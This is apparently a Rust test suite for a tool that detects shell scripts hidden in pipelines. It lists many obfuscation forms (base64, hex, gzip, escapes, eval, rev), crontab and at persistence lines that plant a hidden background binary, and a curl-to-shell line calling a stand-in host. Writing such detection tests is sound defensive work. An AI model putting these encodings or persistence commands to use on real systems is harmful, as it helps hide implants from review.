use std::io::Write;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use super::*;
use crate::shell;

fn shells() -> Vec<String> {
    ["sh", "bash", "dash", "zsh"].map(String::from).to_vec()
}

fn scripts(text: &str) -> Vec<(String, String, bool)> {
    let mut budget = SCRIPT_BUDGET;
    piped_scripts(&shell::parse(text), &shells(), &mut budget)
        .into_iter()
        .map(|s| (s.text.trim_end().to_string(), s.runner, s.decoded))
        .collect()
}

fn b64(s: &str) -> String {
    STANDARD.encode(s)
}

fn hex(s: &str) -> String {
    s.bytes().map(|b| format!("{b:02x}")).collect()
}

fn gzip_b64(s: &str) -> String {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(s.as_bytes()).unwrap();
    STANDARD.encode(gz.finish().unwrap())
}

const PAYLOAD: &str = "nohup /tmp/.x/agent >/dev/null 2>&1 &";

#[test]
fn a_job_piped_to_at_or_batch_is_a_script_atd_runs() {
    let e = b64(PAYLOAD);
    assert_eq!(
        scripts(&format!("echo '{PAYLOAD}' | at now + 1 minute")),
        [(PAYLOAD.to_string(), "at".to_string(), false)]
    );
    assert_eq!(
        scripts(&format!("echo {e} | base64 -d | batch")),
        [(PAYLOAD.to_string(), "batch".to_string(), true)]
    );
    assert_eq!(
        scripts(&format!("at -q b 03:00 <<< '{PAYLOAD}'")),
        [(PAYLOAD.to_string(), "at".to_string(), false)]
    );
    // A job file, listing and removal read no script from the pipe.
    for text in [
        "echo x | at -f /tmp/job now".to_string(),
        "echo 3 | at -d 3".to_string(),
        "atq | at -c 5".to_string(),
    ] {
        assert!(scripts(&text).is_empty(), "{text}");
    }
}

#[test]
fn every_way_of_piping_a_literal_to_a_shell_gives_the_same_script() {
    let p = PAYLOAD;
    let e = b64(p);
    let escaped: String = p.bytes().map(|b| format!("\\x{b:02x}")).collect();
    let octal: String = p.bytes().map(|b| format!("\\0{b:o}")).collect();
    let reversed: String = p.chars().rev().collect();
    let b32 = data_encoding::BASE32.encode(p.as_bytes());
    let cases = [
        (format!("echo {e} | base64 -d | sh"), "sh", true),
        (format!("echo '{e}'|base64 --decode|bash"), "bash", true),
        (
            format!("echo -n {e} | base64 -D | /bin/zsh -s"),
            "zsh",
            true,
        ),
        (format!("printf %s {e} | base64 -di | bash -"), "bash", true),
        (format!("base64 -d <<< {e} | sh"), "sh", true),
        (format!("base64 -d <<<\"{e}\" | bash -x"), "bash", true),
        (format!("echo {b32} | base32 -d | sh"), "sh", true),
        (format!("echo {} | xxd -r -p | sh", hex(p)), "sh", true),
        (format!("echo {e} | basenc --base64 -d | sh"), "sh", true),
        (format!("echo {e} | openssl base64 -d | sh"), "sh", true),
        (
            format!("echo {e} | openssl enc -d -base64 | sh"),
            "sh",
            true,
        ),
        (
            format!("echo {} | base64 -d | gunzip | sh", gzip_b64(p)),
            "sh",
            true,
        ),
        (
            format!("echo {} | base64 -d | gzip -dc | cat | sh", gzip_b64(p)),
            "sh",
            true,
        ),
        (
            format!("echo {} | base64 -d | base64 -d | sh", b64(&e)),
            "sh",
            true,
        ),
        (format!("printf '{escaped}' | sh"), "sh", true),
        (format!("printf '%b' '{octal}' | sh"), "sh", true),
        (format!("echo -e '{escaped}' | bash"), "bash", true),
        (format!("echo '{reversed}' | rev | bash"), "bash", true),
        (
            format!("sh -c \"x\"; echo {e} | base64 -d | sh"),
            "sh",
            true,
        ),
        (format!("eval \"$(echo {e} | base64 -d)\""), "eval", true),
        (format!("eval `echo {e} | base64 -d`"), "eval", true),
        (format!("$(echo {e} | base64 -d)"), "sh", true),
        (format!("bash <<< \"$(base64 -d <<< {e})\""), "bash", true),
        (format!("bash <(echo {e} | base64 -d)"), "bash", true),
        (format!("source <(echo {e} | base64 -d)"), "source", true),
        (format!(". <(echo {e} | base64 -d)"), ".", true),
        (format!("echo '{p}' | sh"), "sh", false),
        (format!("bash <<< '{p}'"), "bash", false),
    ];
    for (text, runner, decoded) in cases {
        assert_eq!(
            scripts(&text),
            vec![(p.to_string(), runner.to_string(), decoded)],
            "{text}"
        );
    }
}

#[test]
fn decoded_text_that_no_shell_runs_is_not_a_script() {
    let e = b64(PAYLOAD);
    for text in [
        format!("echo {e} | base64 -d"),
        format!("echo {e} | base64 -d > /tmp/out.sh"),
        format!("echo {e} | base64 -d | tee /tmp/out.sh"),
        format!("echo {e} | base64 -d | sh /tmp/script.sh"),
        format!("echo {e} | base64 -d | sh -c 'cat > /tmp/x'"),
        format!("echo {e} | base64"),
        format!("echo {e} | grep nohup | sh"),
        format!("x=\"$(echo {e} | base64 -d)\""),
        format!("echo \"$(echo {e} | base64 -d)\""),
        format!("sh -c \"$(echo {e} | base64 -d)\""),
        "cat /tmp/payload.b64 | base64 -d | sh".to_string(),
        "curl -s http://x/y | sh".to_string(),
        "base64 -d <<< \"$B64\" | sh".to_string(),
        "echo | sh".to_string(),
    ] {
        assert_eq!(scripts(&text), Vec::new(), "{text}");
    }
}

#[test]
fn garbage_and_binary_literals_are_not_scripts() {
    let elf = STANDARD.encode(b"\x7fELF\x02\x01\x01\x00\x00\x00");
    let latin1 = STANDARD.encode(b"\xff\xfe\xfd nohup");
    for text in [
        format!("echo {elf} | base64 -d | sh"),
        format!("echo {latin1} | base64 -d | sh"),
        "echo '!!not base64!!' | base64 -d | sh".to_string(),
        "echo zz | xxd -r -p | sh".to_string(),
        "echo H4sIAAAA | base64 -d | gunzip | sh".to_string(),
    ] {
        assert_eq!(scripts(&text), Vec::new(), "{text}");
    }
}

#[test]
fn a_gzip_bomb_stops_at_the_budget() {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gz.write_all(&vec![b'#'; 4 << 20]).unwrap();
    let bomb = STANDARD.encode(gz.finish().unwrap());
    let text = format!("echo {bomb} | base64 -d | gunzip | sh");
    let mut budget = SCRIPT_BUDGET;
    assert!(piped_scripts(&shell::parse(&text), &shells(), &mut budget).is_empty());
    // Within the budget the same pipeline is followed.
    let small = gzip_b64(PAYLOAD);
    let mut budget = SCRIPT_BUDGET;
    let found = piped_scripts(
        &shell::parse(&format!("echo {small} | base64 -d | gunzip | sh")),
        &shells(),
        &mut budget,
    );
    assert_eq!(found.len(), 1);
    assert!(budget < SCRIPT_BUDGET);
}

#[test]
fn many_pipelines_stop_at_the_script_limit() {
    let one = format!("echo {} | base64 -d | sh; ", b64("nohup /tmp/a &"));
    let text = one.repeat(100);
    assert_eq!(scripts(&text).len(), MAX_SCRIPTS);
}

#[test]
fn escapes_are_read_as_printf_reads_them() {
    assert_eq!(unescape(r"\x6e\x6fhup"), b"nohup");
    assert_eq!(unescape(r"\0156\157hup"), b"nohup");
    assert_eq!(unescape(r"a\tb\\c\n"), b"a\tb\\c\n");
    assert_eq!(unescape(r"stop\cnot"), b"stop");
    assert_eq!(unescape(r"\x"), b"\\x");
    assert_eq!(unescape(r"\q"), b"\\q");
    assert_eq!(unescape("trailing\\"), b"trailing\\");
}

#[test]
fn rev_reverses_each_line() {
    assert_eq!(rev("cba\nfed".as_bytes()).unwrap(), b"abc\ndef");
    assert_eq!(rev("é1\n".as_bytes()).unwrap(), "1é\n".as_bytes());
}

/// Through the command model: what a piped script runs is listed behind the shell
/// that reads it, flagged piped (and decoded when it was); text that is only
/// decoded and stored lists no command of it.
#[test]
fn the_command_model_lists_what_piped_scripts_run() {
    let rules: crate::command::CommandRules =
        crate::rules::Rules::embedded().section("commands").unwrap();
    let e = b64(PAYLOAD);
    let argv: Vec<String> = ["sh", "-c", &format!("echo {e} | base64 -d | bash")]
        .map(String::from)
        .to_vec();
    let found = crate::command::from_argv(&argv, &rules);
    let nohup = found
        .iter()
        .find(|i| i.program() == "nohup")
        .expect("nohup listed");
    assert_eq!(nohup.words, ["nohup", "/tmp/.x/agent"]);
    assert!(nohup.piped && nohup.decoded && nohup.background);
    assert_eq!(nohup.via, ["sh", "bash"]);
    let plain = crate::command::from_shell_text(&format!("echo '{PAYLOAD}' | sh"), &rules);
    let nohup = plain
        .iter()
        .find(|i| i.program() == "nohup")
        .expect("nohup listed");
    assert!(nohup.piped && !nohup.decoded);
    let stored = crate::command::from_shell_text(&format!("echo {e} | base64 -d > /tmp/n"), &rules);
    assert!(stored.iter().all(|i| i.program() != "nohup"), "{stored:?}");
    let direct = crate::command::from_shell_text("nohup /tmp/a &", &rules);
    assert!(!direct[0].piped && !direct[0].decoded);
}

/// A stage of only redirections has no words (found by the fuzz smoke run).
#[test]
fn stages_without_words_end_the_pipeline() {
    for text in [
        "echo x | <<< y",
        "echo x | >/tmp/f | sh",
        "<<< 'nohup /tmp/a' | sh",
        "echo a |",
    ] {
        let _ = scripts(text);
    }
    assert_eq!(scripts("echo x | <<< y"), Vec::new());
}

#[test]
fn what_a_group_or_loop_writes_goes_down_the_pipe() {
    for text in [
        format!("(echo '{PAYLOAD}') | sh"),
        format!("{{ echo '{PAYLOAD}'; }} | bash"),
        format!("(echo id; echo '{PAYLOAD}') | sh"),
        format!("(cat /etc/motd; printf '%s\\n' '{PAYLOAD}') | sh"),
        format!("for i in 1; do echo '{PAYLOAD}'; done | sh"),
        format!("(echo {}) | base64 -d | sh", b64(PAYLOAD)),
    ] {
        let found = scripts(&text);
        assert_eq!(found.len(), 1, "{text}: {found:?}");
        assert!(
            found[0].0.lines().any(|l| l == PAYLOAD),
            "{text}: {found:?}"
        );
    }
    // What the group writes is stored, not run; a group's own inner pipe is read
    // once, by itself.
    assert!(scripts(&format!("(echo '{PAYLOAD}') > /tmp/job")).is_empty());
    assert!(scripts(&format!("(echo '{PAYLOAD}') | tee /tmp/job")).is_empty());
    assert_eq!(scripts(&format!("(echo '{PAYLOAD}' | sh)")).len(), 1);
    assert_eq!(scripts(&format!("(echo '{PAYLOAD}' | sh) | cat")).len(), 1);
}

/// A command in a group is not in a `$(…)`: an earlier `eval` does not run it.
#[test]
fn a_group_after_eval_is_not_its_substitution() {
    assert!(scripts(&format!("eval x; (echo '{PAYLOAD}')")).is_empty());
    assert_eq!(
        scripts(&format!("eval \"$(echo {} | base64 -d)\"", b64(PAYLOAD))),
        [(PAYLOAD.to_string(), "eval".to_string(), true)]
    );
}

#[test]
fn a_table_piped_to_crontab_is_the_jobs_cron_runs() {
    let jobs = |text: &str| -> Vec<String> {
        scripts(text)
            .into_iter()
            .filter(|s| s.1 == "crontab")
            .flat_map(|s| s.0.lines().map(String::from).collect::<Vec<_>>())
            .collect()
    };
    assert_eq!(
        jobs(&format!("echo '* * * * * {PAYLOAD}' | crontab -")),
        [PAYLOAD]
    );
    assert_eq!(
        jobs(&format!(
            "(crontab -l; echo '@reboot {PAYLOAD}') | crontab -"
        )),
        [PAYLOAD]
    );
    assert_eq!(
        jobs(&format!(
            "crontab -l 2>/dev/null | {{ cat; echo '*/5 * * * * {PAYLOAD}'; }} | crontab -u www -"
        )),
        [PAYLOAD]
    );
    assert_eq!(
        jobs(&format!(
            "echo {} | base64 -d | crontab",
            b64(&format!(
                "SHELL=/bin/bash\n# job\nMAILTO = \"\"\n0 3 * * 1-5 {PAYLOAD}\n"
            ))
        )),
        [PAYLOAD]
    );
    // `%` ends the command (the rest is its stdin) unless escaped.
    assert_eq!(
        jobs("echo '0 0 * * * date +\\%s; nohup /tmp/a %input' | crontab -"),
        ["date +%s; nohup /tmp/a"]
    );
    // Listing, editing, removing or a table file read no table from the pipe.
    for text in [
        format!("echo '* * * * * {PAYLOAD}' | crontab -l"),
        format!("echo '* * * * * {PAYLOAD}' | crontab -r"),
        format!("echo '* * * * * {PAYLOAD}' | crontab /tmp/tab"),
        format!("echo '* * * * * {PAYLOAD}' > /tmp/tab"),
        "echo 'SHELL=/bin/sh' | crontab -".to_string(),
    ] {
        assert!(jobs(&text).is_empty(), "{text}");
    }
}

#[test]
fn a_substitution_as_the_command_word_takes_the_commands_operands() {
    let e = b64("nohup");
    for text in [
        "$(echo nohup) /tmp/x &".to_string(),
        "`printf nohup` /tmp/x &".to_string(),
        format!("$(echo {e} | base64 -d) /tmp/x &"),
        "$(rev <<< puhon) /tmp/x &".to_string(),
    ] {
        let got = scripts(&text);
        assert_eq!(got.len(), 1, "{text}: {got:?}");
        assert_eq!(got[0].0, "nohup '/tmp/x' &", "{text}");
        assert_eq!(got[0].1, "sh", "{text}");
    }
    // A word with an operand that holds a quote stays one word.
    assert_eq!(scripts("$(echo nohup) \"it's\"")[0].0, r"nohup 'it'\''s'");
    // The substitution as an operand, or one of two in the word: as before.
    assert_eq!(scripts("eval \"$(echo nohup)\" /tmp/x")[0].0, "nohup");
    assert_eq!(scripts("$(echo no)$(echo hup) /tmp/x")[0].0, "no");
    // The command model: the nohup run with its target.
    let rules: crate::command::CommandRules =
        crate::rules::Rules::embedded().section("commands").unwrap();
    let inv = crate::command::from_shell_text("$(echo nohup) /tmp/.x &", &rules);
    let nohup = inv.iter().find(|i| i.program() == "nohup").expect("nohup");
    assert_eq!(nohup.words, ["nohup", "/tmp/.x"]);
    assert!(nohup.background);
}

#[test]
fn a_script_written_to_a_file_is_what_running_the_file_runs() {
    let e = b64(PAYLOAD);
    let run = |text: &str| {
        scripts(text)
            .into_iter()
            .map(|(t, r, _)| (t, r))
            .collect::<Vec<_>>()
    };
    let want = |runner: &str| vec![(PAYLOAD.to_string(), runner.to_string())];
    assert_eq!(
        run(&format!("echo '{PAYLOAD}' > /tmp/s.sh; bash /tmp/s.sh")),
        want("bash")
    );
    assert_eq!(
        run(&format!("echo '{PAYLOAD}' >s.sh && sh -x ./s.sh")),
        want("sh")
    );
    assert_eq!(
        run(&format!("echo '{PAYLOAD}' > s; chmod +x s; ./s")),
        want("sh")
    );
    assert_eq!(
        run(&format!("echo '{PAYLOAD}' > /tmp/.r; . /tmp/.r")),
        want(".")
    );
    assert_eq!(
        run(&format!("echo '{PAYLOAD}' > /tmp/.r; source /tmp/.r")),
        want("source")
    );
    assert_eq!(
        run(&format!("echo {e} | base64 -d > /tmp/d; bash /tmp/d")),
        want("bash")
    );
    // Appends join, in order.
    assert_eq!(
        run("echo '#!/bin/sh' > /tmp/a; echo 'nohup ./x &' >> /tmp/a; sh /tmp/a"),
        vec![("#!/bin/sh\nnohup ./x &".to_string(), "sh".to_string())]
    );
    // The last write before the run is what runs; a run before the write, another
    // file, a read, a bare name (looked up in PATH) or a path not known runs none.
    assert_eq!(
        run(&format!(
            "echo '{PAYLOAD}' > /tmp/s; echo 'ls' > /tmp/s; sh /tmp/s"
        )),
        vec![("ls".to_string(), "sh".to_string())]
    );
    for text in [
        format!("bash /tmp/s.sh; echo '{PAYLOAD}' > /tmp/s.sh"),
        format!("echo '{PAYLOAD}' > /tmp/s.sh; bash /tmp/other.sh"),
        format!("echo '{PAYLOAD}' > /tmp/s.sh; cat /tmp/s.sh"),
        format!("echo '{PAYLOAD}' > s.sh; s.sh"),
        format!("echo '{PAYLOAD}' > $F; sh $F"),
        format!("echo '{PAYLOAD}' > /dev/null; sh /dev/null"),
    ] {
        assert_eq!(run(&text), Vec::new(), "{text}");
    }
}
